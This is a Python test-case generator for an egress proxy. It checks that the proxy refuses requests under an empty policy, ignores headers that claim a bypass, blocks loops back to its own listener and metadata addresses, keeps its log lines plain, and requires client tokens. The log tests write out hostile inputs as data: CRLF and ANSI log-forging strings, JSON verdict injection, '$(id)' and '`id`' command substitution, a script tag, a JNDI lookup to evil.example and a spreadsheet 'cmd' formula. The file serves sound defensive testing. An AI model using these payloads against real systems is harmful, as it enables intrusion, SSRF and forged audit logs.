"""What policy itself can be made to do: forget its rules, go in circles, and lie in its log."""

from rows import GRANTED, NARROW, PLAIN, RAW, THIEF, TUNNEL, add, refused, request, sees

NOTHING = refused("nothing_allowed")


def empty():
    for host, scheme, path, method in [(GRANTED, "https", "/", "GET"), (PLAIN, "http", "/", "GET"), (NARROW, "https", "/repos/x", "GET"), (THIEF, "https", "/", "GET"),
                                       ("a.wild.example.com", "https", "/", "GET"), ("example.com", "https", "/", "GET"), ("example.com", "http", "/", "GET"),
                                       ("api.openai.com", "https", "/v1/models", "GET"), ("api.github.com", "https", "/", "GET"), ("pypi.org", "https", "/simple/", "GET"),
                                       (GRANTED, "https", "/", "HEAD"), (GRANTED, "https", "/", "OPTIONS"), (GRANTED, "https", "/", "POST"), (f"{GRANTED}:8443", "https", "/", "GET"),
                                       (f"{PLAIN}:<<port>>", "http", "/", "GET"), ("1e100.net", "https", "/generate_204", "GET"), ("connectivitycheck.gstatic.com", "http", "/", "GET"),
                                       ("ocsp.digicert.com", "http", "/", "GET"), ("raw.githubusercontent.com", "https", "/", "GET"), ("xn--bcher-kva.example.com", "https", "/", "GET")]:
        add("policy", "empty", f"{method} {scheme}://{host}{path} without a rule", "no rules allow nothing, not everything", request(host, path, scheme=scheme, method=method), NOTHING, policy="empty", **({"guest": refused("denied"), "listener": refused("denied")} if method == "HEAD" else {}))
    for host, code in [("127.0.0.1:<<port>>", "ip_literal_refused"), ("localhost:<<port>>", "name_refused"), ("[::1]:<<port>>", "ip_literal_refused"), ("169.254.169.254", "ip_literal_refused")]:
        add("policy", "empty", f"http://{host} without a rule", "no rules allow nothing, not everything", request(host, scheme="http"), refused(code), policy="empty")


def bypass():
    for name, value in [("no-proxy", "*"), ("x-no-proxy", "api.example.com"), ("proxy", "http://thief.example.org:8080"), ("x-proxy", "direct"), ("x-forwarded-host", THIEF),
                        ("x-allow", "*"), ("x-egress-allow", "*"), ("x-policy", "allow"), ("x-orch-allow", "*"), ("x-real-host", THIEF)]:
        kept = [] if name == "x-forwarded-host" else [[name, value]]
        add("policy", "bypass", f"{name}: {value}", "policy is not in requests: the field is the upstream's own business, or a claim and dropped",
            request(GRANTED, headers=[[name, value]]), sees("GET / HTTP/1.1", GRANTED, kept))
        add("policy", "bypass", f"{name}: {value} to {THIEF}", "policy is not in requests", request(THIEF, headers=[[name, value]]), refused("host_not_allowed"))
    for name in ["no_proxy", "NO_PROXY", "all_proxy", "https_proxy", "allow", "egress", "host", "url", "target"]:
        add("policy", "bypass", f"?{name}=* to {THIEF}", "policy is not in URLs", request(THIEF, f"/?{name}=*"), refused("host_not_allowed"))


def loops():
    for what, authority in [("this machine's loopback", "127.0.0.1:<<proxy>>"), ("its name", "localhost:<<proxy>>"), ("its IPv6 loopback", "[::1]:<<proxy>>"), ("every address", "0.0.0.0:<<proxy>>")]:
        code = "name_refused" if authority.startswith("localhost") else "ip_literal_refused"
        only = {"cannot": "a run has no listener that could be in a circle"}
        add("policy", "loop", f"the proxy's own listener through {what}", "a request that comes back in goes round for ever", request(authority, scheme="http"), refused(code), guest=only)
        add("policy", "loop", f"a tunnel to the proxy's own listener through {what}", "a request that comes back in goes round for ever", {"connect": {"authority": authority}}, refused(code), guest={"cannot": TUNNEL})
    add("policy", "loop", "a granted name that is led to the proxy's own listener", "own listeners are refused however they are reached",
        request("loop.example.com", scheme="http"), refused("address_refused"), guest={"cannot": "a run has no listener that could be in a circle"})
    for value in ["0", "1", "-1"]:
        add("policy", "loop", f"Max-Forwards: {value}", "it is about TRACE and OPTIONS, which are no way round here", request(GRANTED, headers=[["max-forwards", value]]),
            sees("GET / HTTP/1.1", GRANTED, [["max-forwards", value]]))


def logs():
    for path, code in [("/repos/%0d%0a2026-01-01T00:00:00Z%20allowed", "path_refused"), ("/repos/%1b[2J", "path_refused"), ("/x%22,%22verdict%22:%22allowed%22", "path_not_allowed"),
                       ("/x\",\"verdict\":\"allowed", "path_not_allowed"), ("/%e2%80%ae/x", "path_not_allowed"), ("/%c2%9b31m", "path_not_allowed"), ("/x%0a", "path_refused"),
                       ("/%f0%9f%92%a9", "path_not_allowed"), ("/{}[]", "path_not_allowed"), ("/'-'--", "path_not_allowed"), ("/$(id)", "path_not_allowed"), ("/`id`", "malformed_request"),
                       ("/<script>alert(1)</script>", "malformed_request"), ("/$%7Bjndi:ldap://evil.example/x%7D", "path_not_allowed"), ("/%25n%25s", "path_not_allowed"), ("/" + "a" * 3000, "path_not_allowed"),
                       ("/%80%81%fe%ff", "path_not_allowed"), ("/=cmd|'/c calc'!A1", "malformed_request")]:
        add("policy", "log", f"the path {path[:60]}", "what a decision says is one line of plain text, whatever was asked", request(NARROW, path), refused(code),
            guest={"refused": "sandbox:path"} if code == "malformed_request" else None)
    for method in ["GET\"", "A" * 2000, "\u001b[31m", "GET%0d%0a", "=1+1", "${x}", "a'b"]:
        legal = all(ch.isalnum() or ch in "!#$%&'*+-.^_`|~" for ch in method)
        add("policy", "log", f"the method {method[:20]!r}", "what a decision says is one line of plain text, whatever was asked", request(NARROW, "/repos/x", method=method),
            refused(["method_not_allowed"] if legal else ["malformed_request"]), guest=None if legal else {"refused": "sandbox:method"}, listener=refused("malformed_request") if len(method) > 32 else None)
    for name in ["user-agent", "referer", "x-log"]:
        for value, code in [("x\r\nx-injected: 1", None), ("x\nallowed", None), ("\x1b]0;title\x07", None), ("x\x00y", None)]:
            add("policy", "log", f"{name}: {value!r}", "a value cannot end its line, in no message and in no log", request(GRANTED, headers=[[name, value]]),
                refused(["malformed_request"]), guest={"refused": "sandbox:set of headers"},
                listener={"cannot": "two lines of a message are two fields, and this is how a client writes them"} if "\r\n" in value else None)


def clients():
    """Who may use the listener at all."""
    url, host = f"http://{PLAIN}/in", f"Host: {PLAIN}"
    for what, fields in [("no token", []), ("an empty field", ["Proxy-Authorization:"]), ("a scheme without credentials", ["Proxy-Authorization: Basic"]), ("no Base64", ["Proxy-Authorization: Basic !!!!"]),
                         ("no colon", ["Proxy-Authorization: Basic Y2xpZW50"]), ("an empty token", ["Proxy-Authorization: Basic Y2xpZW50Og=="]), ("a wrong token", ["Proxy-Authorization: Basic Y2xpZW50Ondyb25n"]),
                         ("another scheme", ["Proxy-Authorization: Digest username=client"]), ("a wrong bearer", ["Proxy-Authorization: Bearer wrong"]), ("the field of the upstream", ["Authorization: Basic Y2xpZW50Ondyb25n"]),
                         ("a cookie", ["Cookie: token=wrong"]), ("a NUL in the credentials", ["Proxy-Authorization: Basic Y2xpZW50OgA="]), ("two wrong ones", ["Proxy-Authorization: Basic Y2xpZW50Ondyb25n"] * 2),
                         ("a very long one", ["Proxy-Authorization: Basic " + "QUFB" * 3000])]:
        for line in [f"GET {url} HTTP/1.1", f"CONNECT {GRANTED}:443 HTTP/1.1"]:
            add("policy", "client", f"{line.split()[0]} with {what}", "the listener is for clients with a token: a browser that is led to it has none",
                {"raw": "\r\n".join([line, host if line[0] == "G" else f"Host: {GRANTED}:443", *fields]) + "\r\n\r\n"}, refused("proxy_authentication_required"), guest={"cannot": RAW})


def write():
    empty()
    bypass()
    loops()
    logs()
    clients()
